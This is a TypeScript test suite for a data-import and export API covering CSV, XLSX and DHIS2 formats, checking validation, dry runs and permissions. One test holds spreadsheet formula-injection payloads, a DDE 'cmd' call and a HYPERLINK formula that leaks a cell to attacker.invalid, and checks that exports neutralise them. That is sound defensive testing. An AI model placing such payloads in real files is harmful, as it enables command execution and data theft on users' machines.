import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { XLSX_TYPE } from '../../src/api/routes/imports.routes.js';
import { LOCAL_ADMIN, type AppContext } from '../../src/app/context.js';
import { importWorkbook } from '../../src/app/import/import-workbook.js';
import { createApiToken } from '../../src/app/session/api-tokens.js';
import type { Db } from '../../src/store/db.js';
import { buildTestServer, type TestServer } from '../support/api.js';
import { csvFolder, dumpDatabase, FULL_FILE, loadSmallUnitTree } from '../support/import-fixture.js';
import { createTestDb, TEST_DB_KINDS } from '../support/test-db.js';

// A request records when its API token was last used; everything else must stay as it was.
const USED_TOKENS = ['api_token'];

describe.each(TEST_DB_KINDS)('imports, templates and exports over HTTP on %s', (kind) => {
  let db: Db;
  let ctx: AppContext;
  let app: TestServer;
  beforeAll(async () => {
    db = await createTestDb(kind);
    ctx = { db, now: () => new Date('2025-03-01T08:00:00Z') };
    await loadSmallUnitTree(db);
    await importWorkbook(ctx, LOCAL_ADMIN, { path: await csvFolder(FULL_FILE) });
    app = await buildTestServer({ ctx });
  }, 60_000);
  afterAll(async () => {
    await app?.close();
    await db?.close();
  });

  const csv = (lines: string[]) => `${lines.join('\n')}\n`;

  it('imports one CSV sheet, dry or not, and reports per sheet', async () => {
    const payload = csv(['indicator_code,unit_code,period,value', 'P1,15,2023,12.5', 'C1,15,2023,7']);
    const before = await dumpDatabase(db, USED_TOKENS);
    const dry = await app.inject({
      method: 'POST',
      url: '/api/v1/imports?dryRun=true&sheet=values',
      headers: { 'content-type': 'text/csv' },
      payload,
    });
    expect(dry.statusCode).toBe(200);
    expect(dry.json()).toMatchObject({ dryRun: true, format: 'csv', sheets: { values: { inserted: 2 } } });
    expect(await dumpDatabase(db, USED_TOKENS)).toEqual(before);
    const real = await app.inject({
      method: 'POST',
      url: '/api/v1/imports',
      headers: { 'content-type': 'text/csv; charset=utf-8' },
      payload,
    });
    expect(real.json()).toMatchObject({ dryRun: false, sheets: { values: { inserted: 2, updated: 0 } } });
    const [row] = await db.query<{ source: string }>(
      `SELECT source FROM data_value WHERE period = '2023' LIMIT 1`,
    );
    expect(row?.source).toBe('import');
  });

  it('refuses a bad file with a problem+json listing every bad cell, nothing written', async () => {
    const before = await dumpDatabase(db, USED_TOKENS);
    const res = await app.inject({
      method: 'POST',
      url: '/api/v1/imports',
      headers: { 'content-type': 'text/csv' },
      payload: csv([
        'indicator_code,unit_code,period,value',
        'P1,15,2022,101',
        'NOPE,15,2022,1',
        'P1,15,2022,5',
      ]),
    });
    expect(res.statusCode).toBe(400);
    expect(res.headers['content-type']).toContain('application/problem+json');
    const body = res.json() as { code: string; errors: { sheet: string; row: number; column: string }[] };
    expect(body.code).toBe('badInput');
    expect(body.errors.map((e) => `${e.sheet} ${e.row} ${e.column}`)).toEqual([
      'values 2 value',
      'values 3 indicator_code',
      'values 4 indicator_code',
    ]);
    expect(await dumpDatabase(db, USED_TOKENS)).toEqual(before);
  });

  it('imports a DHIS2 dataValueSet sent as JSON', async () => {
    const res = await app.inject({
      method: 'POST',
      url: '/api/v1/imports',
      payload: { dataValues: [{ dataElement: 'P1', period: '2021', orgUnit: '15', value: '10.851' }] },
    });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ format: 'dhis2', sheets: { values: { inserted: 1 } } });
  });

  it("refuses a DHIS2 body that is not JSON with the DHIS2 reader's error, in both languages", async () => {
    const res = await app.inject({
      method: 'POST',
      url: '/api/v1/imports',
      headers: { 'content-type': 'application/json' },
      payload: '{"dataValues": [',
    });
    expect(res.statusCode).toBe(400);
    expect(res.body).toContain('không phải JSON hợp lệ');
    expect(res.body).toContain('not valid JSON');
  });

  it('serves the entry template, which imports back as an xlsx body', async () => {
    const res = await app.inject('/api/v1/plans/KH1/template?period=2024&under=15');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe(XLSX_TYPE);
    expect(res.headers['content-disposition']).toContain('mau-nhap-KH1-2024-15.xlsx');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(
      res.rawPayload.buffer.slice(
        res.rawPayload.byteOffset,
        res.rawPayload.byteOffset + res.rawPayload.byteLength,
      ) as ArrayBuffer,
    );
    expect(wb.worksheets.map((w) => w.name)).toEqual(['values', 'Hướng dẫn']);
    const back = await app.inject({
      method: 'POST',
      url: '/api/v1/imports',
      headers: { 'content-type': XLSX_TYPE },
      payload: res.rawPayload,
    });
    expect(back.statusCode).toBe(200);
    expect(back.json()).toMatchObject({ format: 'xlsx', sheets: { values: { inserted: 0, updated: 0 } } });
  });

  it('names the sheets it skips in its JSON, and reads an export sent as exp.csv back as values', async () => {
    const exported = await app.inject('/api/v1/values/export?format=csv&plan=KH1');
    expect(exported.statusCode).toBe(200);
    const back = await app.inject({
      method: 'POST',
      url: '/api/v1/imports?dryRun=true&name=exp.csv',
      headers: { 'content-type': 'text/csv' },
      payload: exported.body,
    });
    expect(back.statusCode, back.body).toBe(200);
    const report = back.json() as { sheets: { values: { unchanged: number } }; skippedSheets: string[] };
    expect(report.sheets.values).toMatchObject({ inserted: 0, updated: 0 });
    expect(report.sheets.values.unchanged).toBeGreaterThan(0);
    expect(report.skippedSheets).toEqual([]);
    const template = await app.inject('/api/v1/plans/KH1/template?period=2024&under=15');
    const again = await app.inject({
      method: 'POST',
      url: '/api/v1/imports?dryRun=true',
      headers: { 'content-type': XLSX_TYPE },
      payload: template.rawPayload,
    });
    expect(again.json()).toMatchObject({ skippedSheets: ['Hướng dẫn'] });
  });

  it.each([
    ['an empty body', '', /Found: «upload» \(matches no sheet; no header row/],
    [
      'an unrelated sheet',
      'Họ tên,Ngày sinh\nAn,2000-01-01\n',
      /«upload» \(matches no sheet; headers: Họ tên, Ngày sinh/,
    ],
    [
      'a values sheet without rows',
      'indicator_code,unit_code,period,value\n',
      /«upload» \(values, 0 row\(s\)/,
    ],
  ])('refuses %s with 400 naming what was expected and what it found', async (_what, payload, found) => {
    const before = await dumpDatabase(db, USED_TOKENS);
    const res = await app.inject({
      method: 'POST',
      url: '/api/v1/imports?name=upload.csv',
      headers: { 'content-type': 'text/csv' },
      payload,
    });
    expect(res.statusCode).toBe(400);
    const body = res.json() as { code: string; message_vi: string; message_en: string };
    expect(body.code).toBe('badInput');
    expect(body.message_en).toContain(
      'values (indicator_code, unit_code, period, value|numerator|denominator)',
    );
    expect(body.message_en).toMatch(found);
    expect(body.message_vi).toContain('không có dòng nào để nhập');
    expect(await dumpDatabase(db, USED_TOKENS)).toEqual(before);
  });

  it.each([
    ['csv', 'text/csv; charset=utf-8', 'indicator_code,unit_code,period,value,numerator,denominator,comment'],
    ['dhis2', 'application/json; charset=utf-8', '{"dataValues":['],
  ])('exports values as %s', async (format, type, start) => {
    const res = await app.inject(`/api/v1/values/export?format=${format}&plan=KH1`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe(type);
    expect(res.body.replace(/^\uFEFF/, '').startsWith(start)).toBe(true);
  });

  it('writes text that would start a formula with an apostrophe in a CSV export, which imports back unchanged', async () => {
    const comments = [
      "=cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+HYPERLINK("http://attacker.invalid/?leak=" & A1, "Bấm vào đây")',
      '- chưa đủ số liệu',
    ];
    const quoted = (text: string) => (/[",]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
    const payload = csv([
      'indicator_code,unit_code,period,value,numerator,denominator,comment',
      ...comments.map((c, i) => `C1,15,2021Q${i + 1},${i + 1},,,${quoted(c)}`),
    ]);
    const first = await app.inject({
      method: 'POST',
      url: '/api/v1/imports?sheet=values',
      headers: { 'content-type': 'text/csv' },
      payload,
    });
    expect(first.json()).toMatchObject({ sheets: { values: { inserted: 4 } } });

    const exported = await app.inject('/api/v1/values/export?format=csv&period=2021');
    expect(exported.statusCode).toBe(200);
    const lines = exported.body.split('\r\n');
    for (const [i, c] of comments.entries()) {
      const line = lines.find((l) => l.startsWith(`C1,15,2021Q${i + 1},`)) ?? '';
      expect(line.startsWith(`C1,15,2021Q${i + 1},${i + 1},,,${quoted(`'${c}`)},`), line).toBe(true);
    }

    const before = await dumpDatabase(db, USED_TOKENS);
    const back = await app.inject({
      method: 'POST',
      url: '/api/v1/imports?sheet=values',
      headers: { 'content-type': 'text/csv' },
      payload: exported.rawPayload,
    });
    expect(back.statusCode, back.body).toBe(200);
    expect(back.json()).toMatchObject({ sheets: { values: { inserted: 0, updated: 0 } } });
    expect(await dumpDatabase(db, USED_TOKENS)).toEqual(before);
    const stored = await db.query<{ comment: string }>(
      `SELECT comment FROM data_value WHERE period LIKE '2021Q%' ORDER BY period`,
    );
    expect(stored.map((r) => r.comment)).toEqual(comments);

    // The XLSX export writes them as text cells, never as formulas.
    const xlsx = await app.inject('/api/v1/values/export?format=xlsx&period=2021');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(
      xlsx.rawPayload.buffer.slice(
        xlsx.rawPayload.byteOffset,
        xlsx.rawPayload.byteOffset + xlsx.rawPayload.byteLength,
      ) as ArrayBuffer,
    );
    const sheet = wb.getWorksheet('values');
    const written = new Map<string, ExcelJS.Cell>();
    sheet?.eachRow((r) => written.set(String(r.getCell(3).value), r.getCell(7)));
    for (const [i, c] of comments.entries()) {
      const cell = written.get(`2021Q${i + 1}`);
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
      expect(cell?.value).toBe(c);
    }
    sheet?.eachRow((r) => r.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('exports as xlsx and refuses an unknown plan before streaming', async () => {
    const res = await app.inject('/api/v1/values/export?format=xlsx');
    expect(res.statusCode).toBe(200);
    expect(res.rawPayload.subarray(0, 2).toString('latin1')).toBe('PK');
    const bad = await app.inject('/api/v1/values/export?plan=NOPE');
    expect(bad.statusCode).toBe(404);
  });

  it('refuses a reporter rows outside their unit (403, every row listed)', async () => {
    const { token } = await createApiToken(ctx, LOCAL_ADMIN, { name: 'xa', role: 'reporter', unit: '00001' });
    const res = await app.inject({
      method: 'POST',
      url: '/api/v1/imports',
      headers: { 'content-type': 'text/csv', authorization: `Bearer ${token}` },
      payload: csv(['indicator_code,unit_code,period,value', 'P1,15,2020,1', 'B1,LCI-THON1,2020,có']),
    });
    expect(res.statusCode).toBe(403);
    expect((res.json() as { errors: { row: number }[] }).errors.map((e) => e.row)).toEqual([2]);
  });
});
